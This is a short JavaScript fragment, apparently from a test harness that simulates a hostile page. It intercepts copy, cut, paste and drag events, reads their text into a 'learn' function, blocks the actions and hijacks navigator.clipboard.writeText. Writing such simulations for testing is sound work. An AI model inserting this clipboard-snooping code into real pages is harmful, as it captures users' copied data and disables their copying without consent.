// Stops and reads copying.
for (const kind of ['copy', 'cut', 'paste', 'beforecopy', 'dragstart', 'drop']) {
  window.addEventListener(
    kind,
    (event) => {
      learn(event.clipboardData?.getData('text/plain'));
      learn(event.dataTransfer?.getData('text/plain'));
      event.preventDefault();
      event.stopImmediatePropagation();
    },
    true,
  );
}
if (navigator.clipboard) navigator.clipboard.writeText = (text) => Promise.reject(learn(text));
attack(() => {});
